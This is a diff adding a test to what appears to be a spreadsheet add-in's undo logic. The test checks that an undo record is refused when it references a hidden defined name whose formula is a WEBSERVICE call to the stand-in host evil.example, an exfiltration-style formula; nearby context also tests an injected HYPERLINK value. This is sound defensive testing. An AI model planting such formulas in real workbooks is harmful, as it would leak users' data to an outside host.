@@ -270,6 +270,25 @@ describe("undo writes only what the template could have written", () => {
     expect(cellAt(wb.store, SHEET, "B7")).toEqual({ value: 0.081, formula: null });
   });
 
+  it("Given a previous formula over a name the record itself lists and that is not a cell of the sheet (a name defined as a WEBSERVICE call), When undoing, Then it is refused", async () => {
+    const wb = await refreshed();
+    wb.store.addName({
+      name: "CP_Leak",
+      formula: '=WEBSERVICE("https://evil.example/")',
+      comment: "",
+      visible: false,
+    });
+    const undo = wb.store.getSetting(UNDO_KEY) as {
+      entryBefore: { assumptions: Record<string, JsonValue> };
+    };
+    undo.entryBefore.assumptions["leak"] = { name: "CP_Leak", value: 0 };
+    wb.store.setSetting(UNDO_KEY, undo as unknown as JsonValue);
+    tamper(wb, { value: 0, formula: "=CP_Leak*1" });
+
+    await expect(undoLastRefreshWith(wb.excel)).rejects.toBeInstanceOf(UnsafeUndoRecordError);
+    expect(cellAt(wb.store, SHEET, "B7")).toEqual({ value: 0.081, formula: null });
+  });
+
   it("Given previous text that looks like a formula, When undoing, Then it is written as text, never as a formula", async () => {
     const wb = await refreshed();
     tamper(wb, { value: '=HYPERLINK("https://evil.example")', formula: null });
